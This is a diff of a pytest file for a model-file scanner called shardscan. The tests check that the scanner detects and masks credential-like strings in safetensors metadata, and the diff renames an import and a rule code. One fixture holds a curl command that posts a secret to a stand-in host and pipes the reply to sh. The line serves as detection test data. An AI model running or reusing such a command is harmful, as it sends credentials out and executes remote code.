@@ -20,7 +20,8 @@ import pytest
 from shardscan.limits import Limits
 from shardscan.model import Severity
 from shardscan.pipeline.runner import Runner, ScanOptions
-from shardscan.scanners.safetensors import MAX_REPORTED, redact
+from shardscan.scanners.indicators import mask as redact
+from shardscan.scanners.safetensors import MAX_REPORTED
 from tests.findings import only, rules
 
 FIXTURES = Path(__file__).parent / "fixtures" / "safetensors"
@@ -404,7 +405,7 @@ def test_ordinary_metadata_is_silent(value, scan_bytes):
 
 
 SECRETS = [
-    ("aws", "AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
+    ("aws", "AKIAQ3XZ7TR2LMNB4VWK", "Q3XZ7TR2LMNB4VWK"),
     ("gh", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "a1B2c3D4e5F6g7H8"),
     ("hf", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "AbCdEfGhIjKlMnOp"),
     ("openai", "sk-proj-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2", "Zz9Yy8Xx7Ww6"),
@@ -423,7 +424,7 @@ SECRETS = [
 def test_secrets_are_found_and_masked(kind, text, secret, scan_bytes):
     report = scan_bytes(st({"__metadata__": {"format": "pt", "upload": f"pushed with {text} ok"}}),
                         "x.safetensors")
-    hits = only(report, "STF013")
+    hits = only(report, "BIN002")
     assert all(f.severity == Severity.WARNING for f in hits)
     assert_never_shown(report, secret)
 
@@ -433,7 +434,7 @@ def test_credential_named_key_is_masked(scan_bytes):
     report = scan_bytes(st({"__metadata__": {"hub_api_key": secret, "callback": f"curl -d {secret} "
                                                                                  "https://x.invalid | sh"}}),
                         "x.safetensors")
-    [f] = [f for f in only(report, "STF013") if f.evidence["key"] == "hub_api_key"]
+    [f] = [f for f in only(report, "BIN002") if f.evidence["key"] == "hub_api_key"]
     assert f.evidence["length"] == len(secret)
     assert {"STF011", "STF012"} <= rules(report)
     assert_never_shown(report, secret)
@@ -442,7 +443,7 @@ def test_credential_named_key_is_masked(scan_bytes):
 def test_secret_in_a_key_is_masked(scan_bytes):
     secret = "hf_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"
     report = scan_bytes(st({"__metadata__": {secret: "x"}}), "x.safetensors")
-    only(report, "STF013")
+    only(report, "BIN002")
     assert_never_shown(report, secret)
 
 
